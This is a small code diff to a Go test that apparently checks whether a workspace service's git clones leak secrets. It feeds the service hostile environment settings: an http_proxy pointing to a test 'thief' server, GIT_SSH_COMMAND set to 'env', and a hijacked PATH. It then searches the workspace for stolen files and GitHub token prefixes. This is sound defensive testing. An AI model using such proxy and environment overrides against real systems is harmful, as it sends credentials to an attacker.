@@ -204,7 +204,7 @@ func testSecretsOfClones(t *testing.T, r *tree, inside bool) {
 			workspace := `"workspace":"` + strings.ReplaceAll(what, " ", "-") + `"`
 			state, out = run(workspace + `,"commands":[{"argv":` + script + `}]`)
 			has(t, what+": the files are there", state+out, "done", "ready")
-			state, out = run(workspace + "," + repo("") + `,"env":{"GIT_TRACE_CURL":"1","GIT_SSH_COMMAND":"env","GIT_CONFIG_GLOBAL":"/workspace/.gitconfig","PATH":"/workspace/bin:/usr/bin:/bin","http_proxy":"` + thief.url + `"}`)
+			state, _ = run(workspace + "," + repo("") + `,"env":{"GIT_TRACE_CURL":"1","GIT_SSH_COMMAND":"env","GIT_CONFIG_GLOBAL":"/workspace/.gitconfig","PATH":"/workspace/bin:/usr/bin:/bin","http_proxy":"` + thief.url + `"}`)
 			t.Logf("%s: %s", what, state) // its own git obeys it, and may fail
 			state, out = run(workspace + `,"commands":["cat stolen; grep -rl ghp_ .; true"]`)
 			equal(t, what+": what is left", state, "done: : ")
